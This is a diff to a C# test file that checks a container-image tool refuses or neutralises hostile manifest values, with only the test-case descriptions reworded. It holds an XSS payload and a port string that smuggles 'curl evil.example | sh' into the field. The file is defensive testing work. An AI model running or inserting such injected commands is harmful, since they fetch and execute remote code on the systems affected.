@@ -31,8 +31,8 @@ public sealed class HostileDocumentTests
     [InlineData("<img src=x onerror=alert(1)>|x|")]
     [ReliabilityCase(
         "Security",
-        "a base image's `os.version` is a command of Azure Pipelines or GitHub Actions, or HTML",
-        "one error that says where it is, with the command broken; nothing is published"
+        "a base image's `os.version` contains a command of Azure Pipelines or GitHub Actions, or HTML",
+        "one error names the place, with the command made harmless; nothing is published"
     )]
     public async Task AHostileVersionIsRefused(string version)
     {
@@ -51,7 +51,7 @@ public sealed class HostileDocumentTests
     [ReliabilityCase(
         "Security",
         "a base image exposes the port `80 alpine; curl evil.example | sh #/tcp`",
-        "only real ports are shown, and are in the commands to copy"
+        "only real ports are shown, also in the commands to copy"
     )]
     public async Task OnlyPortsAreSuggested()
     {
@@ -87,9 +87,9 @@ public sealed class HostileDocumentTests
     [InlineData(Hostile.AgentCommand)]
     [ReliabilityCase(
         "Security",
-        "each string of a base's or an earlier image's manifest, index and config is a CI command, a terminal's escape sequence, "
-            + "Markdown, HTML and invisible characters",
-        "no line, table, report or command to copy has it unbroken"
+        "each string of a base's or an earlier image's manifest, index and config contains a CI command, a terminal escape "
+            + "sequence, Markdown, HTML and invisible characters",
+        "none of it appears unescaped in a line, table, report or command to copy"
     )]
     public async Task NothingOfADocumentComesOutUnbroken(string canary)
     {
